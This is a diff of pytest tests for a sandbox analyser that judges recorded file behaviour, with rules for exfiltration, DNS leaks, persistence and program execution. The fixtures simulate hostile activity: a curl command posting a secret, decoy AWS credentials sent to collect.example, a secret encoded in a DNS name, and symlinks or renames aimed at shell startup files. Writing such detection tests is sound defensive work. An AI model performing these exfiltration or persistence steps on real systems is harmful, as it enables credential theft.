@@ -192,10 +192,40 @@ def test_what_was_sent_and_what_was_kept_are_named() -> None:
 
 
 def test_the_host_s_own_look_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr("sandbox.judge.dynamic._MOST_SEARCHED", 1000)
+    monkeypatch.setattr("sandbox.judge.second_look._MOST_SEARCHED", 1000)
     long, hit = replace(SAID, sent=bytes(1000)), replace(SAID, sent=SECRET.encode())
     assert judge(dynamic(conversations=(hit, long)), RULES).findings
     assert not judge(dynamic(conversations=(long, hit)), RULES).findings
+
+
+def test_a_planted_tools_word_holds_its_environment_and_is_no_theft() -> None:
+    word = replace(SAID, address="192.0.2.1", port=9, sent=b'{"environment": {"KEY": "%s"}}' % SECRET.encode())
+    assert not judge(dynamic(conversations=(word,)), RULES).findings
+    assert not judge(dynamic(conversations=(replace(word, address="::ffff:192.0.2.1"),)), RULES).findings
+    assert judge(dynamic(conversations=(replace(word, port=80),)), RULES).findings
+    run = event("process.exec", "execve", path="/usr/bin/curl", argv=f"curl -d {SECRET} x")
+    found = judge(dynamic(events=(run,), conversations=(word,)), RULES).findings
+    assert "decoy.sent" in {finding.rule for finding in found}
+
+
+def test_a_theft_that_the_finder_told_is_told_once() -> None:
+    carried = (replace(SAID, sent=SECRET.encode()),)
+    sent = event("decoy.sent", "finder", name="AWS credentials", address="203.0.113.9", port="80", value="plain")
+    asked = event("net.dns", "sendto", name=f"{SECRET}.example.invalid")
+    kept = (replace(KEPT, content=SECRET.encode()),)
+    found = judge(dynamic(events=(sent, asked), conversations=carried, artifacts=kept), RULES).findings
+    assert {finding.rule for finding in found} == {"event.exfiltration", "event.dns"}
+    other = replace(sent, detail=sent.detail | {"name": "another"})
+    found = judge(dynamic(events=(other,), conversations=carried), RULES).findings
+    assert {finding.rule for finding in found} == {"event.exfiltration", "decoy.sent"}
+    written = event("decoy.written", "finder", name="AWS credentials", path="/tmp/loot")
+    found = judge(dynamic(events=(written,), artifacts=kept), RULES).findings
+    assert {finding.rule for finding in found} == {"event.exfiltration.collected"}
+    found = judge(dynamic(events=(written,), conversations=carried), RULES).findings
+    assert "decoy.sent" in {finding.rule for finding in found}
+    run = event("process.exec", "execve", path="/usr/bin/curl", argv=f"curl -d {SECRET} x")
+    found = judge(dynamic(events=(sent, run)), RULES).findings
+    assert "decoy.sent" in {finding.rule for finding in found}
 
 
 def test_many_secrets_in_much_text_take_little_time() -> None:
@@ -235,6 +265,68 @@ def test_a_theft_names_what_and_where_to(row: Event, line: str, subject: str) ->
     (finding,) = judge(events(row), RULES).findings
     assert finding.evidence == (line,)
     assert subject in finding.explanation
+
+
+def test_a_theft_comes_first_and_names_the_conversation() -> None:
+    away = {"address": "198.51.100.54", "port": "80"}
+    rows = [
+        event("net.connect", "connect", name="collect.example", **away),
+        event("decoy.sent", "finder", name="AWS credentials", value="gzip", host="collect.example", at=41, **away),
+    ]
+    talk = replace(SAID, address="198.51.100.54", name="collect.example", sent=b"POST /up -> x HTTP/1.1\r\nHost: y\r\n")
+    judgement = judge(dynamic(events=tuple(rows), conversations=(talk,)), RULES)
+    assert judgement.summary.endswith("exfiltration of the decoy AWS credentials to collect.example:80.")
+    theft, connect = judgement.findings
+    line = "event 41: finder the decoy AWS credentials to collect.example:80 (denied), gzip; conversation 3: POST /up"
+    assert theft.evidence == (line + " \ufffd x HTTP/1.1",)
+    assert connect.evidence == ("event 1: connect collect.example:80 (denied)",)
+
+
+@pytest.mark.parametrize(
+    ("path", "argv", "shown"),
+    [
+        ("/bin/sh", "sh -c id", "sh -c id"),
+        ("/usr/bin/sh", "/bin/sh -c id", "/bin/sh -c id"),
+        ("./x", "./x a", "./x a"),
+        ("/bin/sh", "ls", "/bin/sh (calls itself ls)"),
+        ("/bin/sh", "'my ls' -c 'a b'", "/bin/sh (calls itself 'my ls') -c 'a b'"),
+        ("/bin/sh", "'' -c id", "/bin/sh (calls itself '') -c id"),
+        ("/tmp/ls", "ls -l", "/tmp/ls (calls itself ls) -l"),
+        ("/tmp/ls", "/bin/ls", "/tmp/ls (calls itself /bin/ls)"),
+        ("/tmp/a b", "", "'/tmp/a b'"),
+        ("/bin/sh", "'cut", "/bin/sh (calls itself ''\"'\"'cut')"),
+        ("", "ls", "ls"),
+    ],
+)
+def test_a_program_is_told_by_what_runs(path: str, argv: str, shown: str) -> None:
+    summary = judge(events(event("process.exec", "execve", path=path, argv=argv)), RULES).summary
+    assert summary == f"This file runs `{shown}` when it is loaded."
+
+
+def test_a_link_stays_where_it_is_made() -> None:
+    linked = event("file.link", "symlink", path="/usr/bin/python3", target="/tmp/venv/python")
+    assert judge(events(linked), RULES).findings[0].rule == "event.write"
+    planted = event("file.link", "symlink", path="/tmp/x", target="/home/user/.zshenv")
+    finding = judge(events(planted), RULES).findings[0]
+    assert finding.rule == "event.persistence.target"
+    assert "(/home/user/.zshenv)" in finding.explanation
+    assert finding.evidence == ("event 1: symlink /tmp/x -> /home/user/.zshenv (denied)",)
+
+
+def test_evidence_draws_no_arrows() -> None:
+    rows = event("file.rename", "rename", path="/tmp/a -> /home/user/.bashrc", target="/tmp/b")
+    finding = judge(events(rows), RULES).findings[0]
+    assert finding.evidence[0].count(" -> ") == 1
+    written = event("file.write", "openat", path="/tmp/a (denied)", answer="continued")
+    assert judge(events(written), RULES).findings[0].evidence == ("event 1: openat '/tmp/a (denied)' (continued)",)
+
+
+def test_all_addresses_are_told_in_one_line() -> None:
+    rows = [event("net.connect", "connect", address=f"203.0.113.{at}", port="80", at=at) for at in range(1, 31)]
+    (finding,) = judge(events(*rows), RULES).findings
+    assert finding.evidence[0].startswith("30 addresses: 203.0.113.1:80, 203.0.113.2:80, ")
+    assert finding.evidence[0].endswith("203.0.113.20:80 and 10 more")
+    assert len(finding.evidence) == MAX_EVIDENCE + 2
 
 
 def test_a_sweep_counts_files_and_not_openings() -> None:
